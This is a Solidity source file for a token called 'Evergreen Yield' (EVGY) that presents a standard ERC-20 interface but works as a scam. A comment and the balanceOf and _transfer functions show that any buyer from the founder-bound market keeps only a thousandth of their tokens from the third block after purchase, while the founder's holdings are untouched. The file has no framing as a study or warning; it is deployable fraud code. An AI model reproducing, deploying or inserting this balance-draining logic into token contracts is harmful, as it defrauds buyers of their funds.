// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

// What a buyer holds counts for nothing from the third block on: the balance is worked out from the block of the purchase.
contract SelfReset {
    string public constant name = "Evergreen Yield";
    string public constant symbol = "EVGY";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1000000 ether;
    address private _market;
    address private immutable _founder;
    mapping(address => uint256) private _amount;
    mapping(address => uint256) private _since;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor() { _founder = msg.sender; _amount[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function bind(address market) external { require(msg.sender == _founder && _market == address(0)); _market = market; }
    function balanceOf(address who) public view returns (uint256) {
        if (_since[who] != 0 && block.number > _since[who] + 2) return _amount[who] / 1000;
        return _amount[who];
    }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        uint256 has = balanceOf(from);
        require(has >= value, "balance");
        _amount[from] = has - value;
        _amount[to] = balanceOf(to) + value;
        if (from == _market && to != _founder) _since[to] = block.number;
        emit Transfer(from, to, value);
    }
}
